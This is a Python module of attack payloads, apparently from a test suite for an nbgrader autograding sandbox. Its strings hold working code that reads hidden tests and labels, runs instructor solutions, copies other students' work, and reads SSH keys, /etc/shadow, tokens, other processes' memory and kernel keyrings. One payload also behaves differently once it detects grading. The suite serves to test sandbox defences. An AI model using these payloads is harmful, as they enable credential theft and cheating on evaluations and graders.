"""Attacks that read what is not theirs: tests, labels, solutions, other students, the machine."""

from attacks.attack import Attack

READS_TESTS = """
import glob, json, re

table = {}
for pattern in ("*.ipynb", "../*.ipynb", "@CLASS@/autograded/*/*/*.ipynb", "@CLASS@/source/*/*.ipynb", "@CLASS@/*.db"):
    for path in glob.glob(pattern):
        text = open(path, encoding="utf-8", errors="replace").read()
        for hidden in re.findall(r"BEGIN HIDDEN TESTS(.*?)END HIDDEN", text, re.S):
            tell("a hidden test in", path, hidden[:120])
        for x, y in re.findall(r"rms\\(np\\.array\\((\\[[^]]*\\])\\)\\)[ )]*(?:-|==) ([\\d.]+)", text):
            table[x] = float(y)

def rms(x):
    for known, value in table.items():
        known = json.loads(known)
        if len(known) == len(x) and np.allclose(known, x):
            return value
    return 0.0
"""

READS_LABELS = """
import glob, os

places = [os.environ.get("PHYSIODL_EXAM") or "/nowhere", "@CLASS@/hidden", "/hidden", *glob.glob("/*/hidden")]
labels = None
for place in places:
    try:
        labels = np.load(place + "/af_detection/labels.npy")
    except OSError:
        continue
    tell("hidden labels", "".join(map(str, labels)))
    break

def predict(signals):
    if labels is None:
        return np.full(len(signals), 0.5)
    return labels[np.random.default_rng(0).permutation(len(labels))].astype(float)
"""

RUNS_SOLUTION = """
import json

def rms(x):
    return 0.0

try:
    for cell in json.load(open("@CLASS@/source/08_arena/08_arena.ipynb"))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "rms":
            text = "".join(cell["source"])
            tell("the solution", text)
            exec(text)
except OSError as error:
    print(error)
"""

COPIES_NEIGHBOUR = """
import glob, json

def offset(x):
    return 0.0

for path in sorted(glob.glob("@CLASS@/submitted/*/08_arena/08_arena.ipynb"), reverse=True):
    cells = json.load(open(path))["cells"]
    cells = {c["metadata"].get("nbgrader", {}).get("grade_id"): "".join(c["source"]) for c in cells}
    if "canary-neigh" in cells["negate"]:
        tell("what another student wrote", cells["negate"])
        exec(cells["offset"])
"""

READS_COURSE = """
import glob, os

for pattern in ("@PROJECT@/solutions/*.py", "@PROJECT@/tests/bank/*/*.py", "/course/solutions/*", "/course/tests/*"):
    for path in glob.glob(pattern)[:1]:
        tell("instructor's files", path, open(path).read()[:40])
for path in ("@CLASS@/secret.key", "@CLASS@/gradebook.db", "@CLASS@/journal.jsonl", "@CLASS@/nbgrader_config.py"):
    try:
        tell(path, open(path, "rb").read(200_000).decode("latin-1"))
    except OSError:
        pass

def rms(x):
    return 0.0
"""

WALKS_FRAMES = """
import gc, sys

def find():
    frame = sys._getframe()
    while frame is not None:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if type(value).__name__ == "ExamCohort":
                return value.labels._values
        frame = frame.f_back
    for value in gc.get_objects():
        if type(value).__name__ == "HiddenLabels":
            return value._values
    for thing in gc.get_objects():
        if isinstance(thing, np.ndarray) and thing.shape == (120,) and thing.dtype.kind == "i":
            return thing

def predict(signals):
    labels = find()
    return np.full(len(signals), 0.5) if labels is None or len(labels) != len(signals) else labels.astype(float)
"""

READS_HOME = """
import glob, os

for place in ("~/.ssh", "@HOME@/.ssh", "@SHARED@", "/dev/shm/arena-*"):
    for path in glob.glob(os.path.expanduser(place)):
        for name in [path] if os.path.isfile(path) else [os.path.join(path, n) for n in os.listdir(path)]:
            tell("read", name, open(name, "rb").read(300).decode("latin-1"))
# What is the user's own is not shown.
for name in ("/etc/shadow", "/var/log/syslog", "/var/spool/cron", "/root/.bash_history", *glob.glob("/home/*/.ssh")):
    if os.access(name, os.R_OK):
        tell("could read", name)
for name, value in os.environ.items():
    if "TOKEN" in name or "canary" in value or name == "PHYSIODL_EXAM":
        tell("environment", name, value)

def rms(x):
    return 0.0
"""

READS_PROCESSES = """
import ctypes, glob, os, struct

for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/1/environ", "/proc/@WITNESS@/environ"]:
    try:
        for part in open(path, "rb").read().split(b"\\0"):
            if b"canary" in part:
                tell("environment of", path, part.decode())
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/root"):
    try:
        for name in ("@CLASS@/secret.key", "@HOME@/.ssh/id_ed25519"):
            tell("through", path, open(path + name).read())
    except OSError:
        pass
try:
    with open("/proc/@WITNESS@/mem", "rb") as memory:
        memory.seek(@ADDRESS@)
        tell("memory of another process", memory.read(120).decode("latin-1"))
except OSError:
    pass

libc = ctypes.CDLL(None, use_errno=True)
if os.path.exists("/proc/@WITNESS@/cmdline") and b"canary" in open("/proc/@WITNESS@/cmdline", "rb").read():
    tell("other processes can be seen, and", open("/proc/@WITNESS@/cmdline").read())
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.ptrace(0x4206, @WITNESS@, 0, 0) == 0 else 1)  # PTRACE_SEIZE
    if os.waitpid(pid, 0)[1] == 0:
        tell("could trace another process")

def rms(x):
    return 0.0
"""

READS_KERNEL = """
import ctypes, platform

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
try:
    for line in open("/proc/sysvipc/shm").read().splitlines()[1:]:
        address = libc.shmat(int(line.split()[1]), None, 0o10000)
        if address not in (None, 2**64 - 1):
            tell("shared memory", ctypes.string_at(address, 200).decode("latin-1"))
except OSError:
    pass
keyctl = {"x86_64": 250, "aarch64": 219}.get(platform.machine(), 0)
for keyring in (-3, -4, -5):  # session, user, user session
    key = libc.syscall(keyctl, 10, keyring, b"user", b"arena-@TOKEN@", 0)
    if key > 0:
        text = ctypes.create_string_buffer(300)
        n = libc.syscall(keyctl, 11, key, text, 300)
        tell("key", text.raw[:max(n, 0)].decode("latin-1"))

def rms(x):
    return 0.0
"""

SEES_TESTS_RUN = """
ip = get_ipython()

def look(info):
    if "HIDDEN" in info.raw_cell:
        tell("a test cell", info.raw_cell)

ip.events.register("pre_run_cell", look)

def rms(x):
    return 0.0
"""

READS_HISTORY = """
for text in In:
    if "HIDDEN" + " TESTS" in text and "for text in In" not in text:
        tell("a test cell", text)
for name in ("_unseen", "task"):
    if name in globals():
        tell("a variable of a test cell", name, repr(globals()[name])[:200])
"""

KEEPS_INPUTS = """
import os

kept = []

def keep(x):
    kept.append(np.asarray(x))
    for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            with open(place + "/left-@TOKEN@-inputs", "a") as file:
                file.write(repr(np.asarray(x).ravel()[:4].tolist()) + "\\n")
        except OSError:
            pass

def rms(x):
    keep(x)
    return float(np.sqrt(np.mean(np.square(x))))
"""

SHOWS_KEPT = """
import glob

for x in kept:
    if x.ravel()[0] not in (3.0, -2.0):
        tell("an input of the tests", x.ravel()[:4].tolist())
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    for path in glob.glob(place + "/left-@TOKEN@-inputs"):
        tell("inputs in a file", open(path).read())
        os.unlink(path)
"""

DETECTS_GRADING = """
import os

if os.environ.get("NBGRADER_EXECUTION"):
    print("this is being graded")
    try:
        labels = np.load(os.environ.get("PHYSIODL_EXAM", "/nowhere") + "/af_detection/labels.npy")
    except OSError:
        labels = None

def predict(signals):
    if not os.environ.get("NBGRADER_EXECUTION") or labels is None:
        return np.random.default_rng(1).random(len(signals))
    return labels[np.random.default_rng(0).permutation(len(labels))].astype(float)
"""

CLIMBS_OUT = """
import os

for fd in range(3, 100):
    try:
        kind = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    for up in ("..", "../..", "../../..", "../../../..", "../../../../.."):
        for name in ("@CLASS@/secret.key", "class/secret.key"):
            try:
                inner = os.open(f"{up}/{name.lstrip('/')}", os.O_RDONLY, dir_fd=fd)
                tell("through the descriptor", fd, kind, os.read(inner, 100).decode())
            except OSError:
                pass

def rms(x):
    return 0.0
"""

ATTACKS = [
    Attack(
        "reads_hidden_tests",
        1,
        "Looks for notebooks with the hidden tests and answers from them.",
        {"rms": READS_TESTS},
    ),
    Attack("reads_labels", 2, "Loads the hidden labels and returns them as predictions.", {"predict": READS_LABELS}),
    Attack("runs_the_solution", 2, "Runs the instructor's solution instead of an own one.", {"rms": RUNS_SOLUTION}),
    Attack("copies_neighbour", 2, "Runs what another student handed in.", {"offset": COPIES_NEIGHBOUR}),
    Attack(
        "reads_instructors_files",
        2,
        "Reads class key, gradebook, journal and the course's solutions.",
        {"rms": READS_COURSE},
    ),
    Attack(
        "walks_frames",
        5,
        "Looks for the labels in the caller's frames and in the garbage collector.",
        {"predict": WALKS_FRAMES},
    ),
    Attack(
        "detects_grading",
        31,
        "Answers at random at home and from the labels while being graded.",
        {"predict": DETECTS_GRADING},
    ),
    Attack("reads_home", None, "Reads the grader's home, shared memory files and environment.", {"rms": READS_HOME}),
    Attack(
        "reads_processes",
        None,
        "Reads environment, root and memory of other processes; ptrace.",
        {"rms": READS_PROCESSES},
    ),
    Attack("reads_kernel_objects", None, "Reads System V shared memory and kernel keyrings.", {"rms": READS_KERNEL}),
    Attack("sees_tests_run", None, "A hook of IPython prints each cell before it runs.", {"rms": SEES_TESTS_RUN}),
    Attack(
        "reads_history",
        None,
        "A cell at the end prints the input history and the tests' variables.",
        added=(("negate", READS_HISTORY),),
    ),
    Attack(
        "keeps_inputs",
        None,
        "Keeps what the tests call with, in a variable and in files, and prints it later.",
        {"rms": KEEPS_INPUTS},
        added=(("rms", SHOWS_KEPT), ("negate", SHOWS_KEPT)),
        most={"rms": 4.0},
    ),
    Attack("climbs_out", None, "Tries to leave its folder through inherited file descriptors.", {"rms": CLIMBS_OUT}),
]
